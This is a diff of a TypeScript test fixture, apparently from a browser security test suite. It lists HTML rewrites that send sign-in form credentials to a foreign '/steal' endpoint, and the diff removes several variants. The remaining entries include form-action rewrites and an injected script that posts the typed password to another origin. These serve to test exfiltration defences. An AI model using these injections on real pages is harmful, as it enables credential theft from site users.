@@ -46,30 +46,7 @@ export const WAYS: readonly (readonly [
   [
     'a form that goes there',
     (html, abroad) => html.replace('action="/sign-in"', `action="${abroad}/steal"`),
-    'nothing is typed at OWN into a form that submits to ABROAD',
-  ],
-  [
-    'a form that goes there, with a field called action',
-    (html, abroad) =>
-      html.replace('action="/sign-in">', `action="${abroad}/steal"><input type="hidden" name="action">`),
-    'nothing is typed at OWN into a form that submits to ABROAD',
-  ],
-  [
-    'a button that sends its form there',
-    (html, abroad) => html.replace('<button', `<button formaction="${abroad}/steal"`),
-    'nothing is typed at OWN into a form that submits to ABROAD',
-  ],
-  [
-    'a field outside of its form',
-    (html, abroad) =>
-      html.replace('type="password"', 'type="password" form="f"') +
-      `<form id="f" method="post" action="${abroad}/steal"></form>`,
-    'nothing is typed at OWN into a form that submits to ABROAD',
-  ],
-  [
-    'a form that goes there once its field has the focus',
-    (html, abroad) => focus(`document.forms[0].action = '${abroad}/steal'`)(html),
-    'nothing is typed at OWN into a form that submits to ABROAD',
+    'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
   ],
   [
     'a form that goes there once it is sent',
@@ -113,12 +90,6 @@ export const WAYS: readonly (readonly [
         `event.preventDefault(); document.body.innerHTML = '<iframe name=f></iframe><form target=f method=post enctype=multipart/form-data action="${abroad}/steal"><input name=x></form>'; document.forms[0].x.value = pw; document.forms[0].submit()`,
       )(html),
     'POST ABROAD for a frame with <consent_password#*> was not sent from the page at OWN',
-  ],
-  [
-    'a pop-up without an opener, as a plain link',
-    (html, abroad) =>
-      submit(`event.preventDefault(); window.open('${abroad}/next', '_blank', 'noopener')`)(html),
-    'GET ABROAD was not sent from the page at OWN',
   ],
 ]
 
